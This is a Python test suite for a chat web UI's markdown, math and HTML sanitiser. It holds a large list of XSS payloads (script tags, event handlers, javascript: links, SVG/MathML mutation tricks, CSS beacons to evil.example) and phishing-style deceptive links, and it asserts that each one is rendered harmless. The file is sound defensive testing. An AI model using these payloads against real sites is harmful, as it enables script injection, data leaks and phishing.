"""Whatever a model writes, what reaches the page is on the allow-list: no script, no handler, no style, no request."""

from __future__ import annotations

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.rendering.html import Page, read
from webui.rendering import IncrementalRenderer, render_markdown, render_plain
from webui.rendering.sanitize import HTML_TAGS, LINK_REL, MATH_ATTRIBUTES, MATH_TAGS, clean

ATTRIBUTES = {
    "a": {"href", "title", "id", "class", "target", "rel", "aria-label"},
    "button": {"type", "class", "data-citation", "data-name", "aria-label"},
    "input": {"type", "class", "checked", "disabled", "aria-label"},
    "li": {"id", "class"},
    "math": {"class", "display", "alttext"},
    "blockquote": {"dir"},
    "ol": {"class", "dir", "start"},
    "ul": {"class", "dir"},
    "section": {"class", "role"},
    "div": {"class", "dir", "tabindex"},
    "pre": {"tabindex"},
    "th": {"class", "scope"},
}
BUTTONS = {
    "citation",
    "code__copy",
    "code__download",
    "code__draw",
    "code__show",
    "table-block__copy",
    "table-block__download",
}
ADDRESS = re.compile(r"https?://[^/]|mailto:.|#fn")

RAW_HTML = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\x0c>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)//",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<img src=`javascript:alert(1)`>",
    "<img/src='x'/onerror=alert(1)>",
    "<img srcset='https://evil.example/x 1x'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,evil#x></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<applet code=x>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=background:url(//evil.example)>x</div>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=//evil.example><input name=password></form>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=//evil.example/x>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example' ping='//evil.example/p'>x</a>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<template><script>alert(1)</script></template>",
    "<portal src=//evil.example>",
    "<div hx-get=/administration/ hx-trigger=load>x</div>",
    "<chat-composer>x</chat-composer>",
    "<div data-hx-post=/chats/delete hx-on:click='alert(1)'>x</div>",
    "</code></pre><script>alert(1)</script>",
    "</div></main><h1>Sign in again</h1>",
    "\"><script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
]  # fmt: skip

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](filesystem:https://example.com/1)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/accounts/logout/)",
    "[x](https:evil)",
    "[x](http:///evil)",
    "[x](#main)",
    "[x](?next=1)",
    '[x](https://example.com/"onmouseover="alert(1))',
    "[x](https://example.com 'title\" onmouseover=\"alert(1)')",
    '[x](https://example.com "</a><script>alert(1)</script>")',
    '["><img src=x onerror=alert(1)>](https://example.com)',
    "[<script>alert(1)</script>](https://example.com)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x]: https://example.com '\"><script>alert(1)</script>'\n\n[x]",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,alert(1)>",
    "<vbscript:x>",
    "<https://example.com/<script>alert(1)</script>>",
    '<"onmouseover="alert(1)@example.com>',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/x.png)",
    '![x](https://evil.example/x.png "onload=alert(1)")',
    '![x" onerror="alert(1)](https://evil.example/x)',
    "![<img src=x onerror=alert(1)>](x)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x][y]\n\n[y]: //evil.example/x.gif",
    "[![x](https://evil.example/x)](javascript:alert(1))",
    "[![x](javascript:alert(1))](https://example.com)",
    'https://example.com/"onmouseover="alert(1)',
    "https://example.com/<script>alert(1)</script>",
    "https://example.com/'><img/src=x>",
    "http://javascript:alert(1)@example.com",
    '```"><script>alert(1)</script>\nx\n```',
    '```python" onclick="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "```html\n</code></pre></figure><script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '| a |\n|:-:" onclick="alert(1)|\n| b |',
    "[^<script>]\n\n[^<script>]: x",
    '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: <script>alert(1)</script>',
    "x[^1]\n\n[^1]: [y](javascript:alert(1)) ![z](//evil.example)",
    "- [ ] <script>alert(1)</script>",
    "# <script>alert(1)</script> {onclick=alert(1)}",
    "> <iframe src=javascript:alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    '[1]" onclick="alert(1)',
    "[1](javascript:alert(1))",
    "[a [1]](javascript:alert(1))",
    "**<script>**alert(1)**</script>**",
    "\\<script>alert(1)\\</script>",
    "<scr\\ipt>alert(1)</scr\\ipt>",
    "a\u2028<script>alert(1)</script>",
    "\x00<script\x00>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "1. <b>\n   <script>alert(1)</script>",
]

FORMULAS = [
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{<img src=x onerror=alert(1)>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\text{&#60;script&#62;}$",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\url{javascript:alert(1)}$",
    r"$\class{evil}{x}$",
    r"$\style{background:url(//evil.example)}{x}$",
    r"$\cssId{main}{x}$",
    r"$\htmlData{x=1}{y}$",
    r"$\includegraphics[width=1em]{https://evil.example/x}$",
    r"$\unicode{x3C}script\unicode{x3E}$",
    r"$\color{red\" onclick=\"alert(1)}{x}$",
    r"$\textcolor{url(//evil.example)}{x}$",
    r"$\colorbox{red}{<script>alert(1)</script>}$",
    r"$\fcolorbox{red}{url(//evil.example)}{x}$",
    r"$\rule{1em\" onclick=\"alert(1)}{1em}$",
    r"$\hspace{100000em}x$",
    r"$\rule{99999em}{99999em}$",
    r"$\def\x{<script>}\x$",
    r"$\operatorname{<script>}$",
    r"$\begin{array}{c\" onclick=\"x}a\end{array}$",
    r"$\begin{<script>}a\end{<script>}$",
    r"$\tag{<script>alert(1)</script>} x$",
    r"$\verb|<script>alert(1)</script>|$",
    r"$\left<script\right>$",
    r"$\unknown{<img src=x onerror=alert(1)>}$",
    "$$\n\\text{</math><script>alert(1)</script>}\n$$",
    "$$\n</math><script>alert(1)</script>\n$$",
    r"\(\text{</mtext><script>alert(1)</script>}\)",
    r"\[<img src=x onerror=alert(1)>\]",
]

PAYLOADS = RAW_HTML + MARKDOWN + FORMULAS


def assert_harmless(page: Page) -> None:
    """Fail on anything outside of the lists; they are spelled out here a second time on purpose."""
    assert not page.has_comment
    for tag, attributes in page.elements:
        assert tag in HTML_TAGS | MATH_TAGS
        allowed = ATTRIBUTES.get(tag, {"class"} if tag in HTML_TAGS else MATH_ATTRIBUTES | {"class"})
        assert attributes.keys() <= allowed, f"<{tag}> has {attributes.keys() - allowed}"
        assert not any(name.startswith(("on", "hx-", "style")) for name in attributes)
        if "href" in attributes:
            assert ADDRESS.match(attributes["href"]), attributes["href"]
        if attributes.get("href", "#").startswith("#") is False:
            assert attributes["rel"] == LINK_REL
            assert attributes["target"] == "_blank"
        if tag == "input":
            assert attributes["type"] == "checkbox"
        if tag == "button":
            assert attributes["type"] == "button"
            assert attributes["class"] in BUTTONS


def test_the_corpus_is_large() -> None:
    assert len(set(PAYLOADS)) >= 160


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless(payload: str) -> None:
    assert_harmless(read(render_markdown(payload, citations={1})))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_harmless_at_every_moment_of_its_arrival(payload: str) -> None:
    renderer = IncrementalRenderer(citations={1})
    for character in f"Look:\n\n{payload}\n\nend":
        renderer.feed(character)
        update = renderer.take()
        assert_harmless(read("".join(update.finished_blocks) + update.tail))

    last = renderer.finish()

    assert_harmless(read("".join(last.finished_blocks) + (last.whole or "")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_typed_by_a_person_stays_text(payload: str) -> None:
    page = read(render_plain(payload))

    assert [tag for tag, _attributes in page.elements] == ["div"]


@pytest.mark.parametrize("payload", RAW_HTML)
def test_raw_html_is_shown_and_not_obeyed(payload: str) -> None:
    page = read(render_markdown(f"a {payload} b"))

    assert "<" in page.text


@pytest.mark.parametrize("payload", RAW_HTML)
def test_the_sanitiser_alone_would_stop_raw_html_too(payload: str) -> None:
    """The second lock holds without the first. Parsers may differ on broken markup, so only what matters is checked."""
    html = clean(payload).lower()

    elements = re.findall(r"<([a-z0-9-]+)([^>]*)>", html)
    assert {tag for tag, _rest in elements} <= HTML_TAGS | MATH_TAGS
    assert not any(
        re.search(r"\s(on\w+|style|src|srcset|srcdoc|xlink:href|formaction)\s*=", rest) for _tag, rest in elements
    )
    assert not re.search(r"<[^>]*(javascript|vbscript|data):", html)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from(PAYLOADS + ["*", "_", "`", "\n", "\n\n", "> ", "- ", "[", "](", ")", "$", "|"]), max_size=8
    )
)
def test_payloads_in_any_combination_are_harmless(pieces: list[str]) -> None:
    assert_harmless(read(render_markdown("".join(pieces), citations={1})))


@pytest.mark.parametrize(
    "text",
    ["![a](https://evil.example/?q=secret)", "![](http://evil.example/x)", "![a][b]\n\n[b]: https://evil.example/"],
)
def test_an_image_is_never_loaded_but_linked(text: str) -> None:
    page = read(render_markdown(text))

    assert not page.all("img")
    assert page.all("a")[0]["class"] == "image-link"


def test_an_image_in_a_link_is_its_label() -> None:
    page = read(render_markdown("[![badge](https://evil.example/b.svg)](https://example.com)"))

    assert [attributes["href"] for attributes in page.all("a")] == ["https://example.com"]
    assert page.text.strip() == "badge"


def test_footnotes_of_two_answers_do_not_share_ids() -> None:
    first = read(render_markdown("a[^1]\n\n[^1]: one"))
    second = read(render_markdown("b[^1]\n\n[^1]: two"))

    assert not {a["id"] for a in first.all("li")} & {a["id"] for a in second.all("li")}


@pytest.mark.parametrize(("citations", "chips"), [((), 0), ((1,), 1), ((1, 2), 2)])
def test_only_known_citations_become_chips(citations: tuple[int, ...], chips: int) -> None:
    page = read(render_markdown("one [1], two [2], three [3], `[1]`, [1](https://example.com)", citations=citations))

    assert [button["data-citation"] for button in page.all("button")] == [str(number) for number in citations]
    assert len(page.all("button")) == chips


def test_a_footnote_with_a_note_is_no_citation() -> None:
    page = read(render_markdown("one [^1], two [^2]\n\n[^1]: a note", citations={1, 2}))

    assert [button["data-citation"] for button in page.all("button")] == ["2"]
    assert page.all("section")


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("[https://bank.example](https://evil.example/login)", "evil.example"),
        ("[www.bank.example](https://evil.example)", "evil.example"),
        ("[bank.example/login](https://evil.example)", "evil.example"),
        ("[**https://bank.example**](https://bank.example.evil.example/)", "bank.example.evil.example"),
        ("[https://bank.example](https://bank.example@evil.example/)", "evil.example"),
        ("[ｗｗｗ．bank.example](https://evil.example)", "evil.example"),
        ("[https://​bank.example][x]\n\n[x]: https://evil.example", "evil.example"),
    ],
)
def test_a_link_named_like_another_address_shows_its_host(text: str, host: str) -> None:
    page = read(render_markdown(text))

    assert page.text.strip().endswith(f"({host})")


@pytest.mark.parametrize(
    "text",
    [
        "[https://example.com/a](https://example.com/a)",
        "[www.example.com](https://example.com)",
        "[the notes](https://example.com)",
        "[Node.js and notes.md](https://example.com)",
        "https://example.com and <https://example.com/x>",
    ],
)
def test_an_honest_link_stays_as_it_is(text: str) -> None:
    assert "(" not in read(render_markdown(text)).text


def test_the_title_of_a_link_is_its_address_and_not_what_the_answer_says() -> None:
    page = read(render_markdown('[a](https://evil.example/x "https://bank.example")'))

    assert page.all("a")[0]["title"] == "https://evil.example/x"
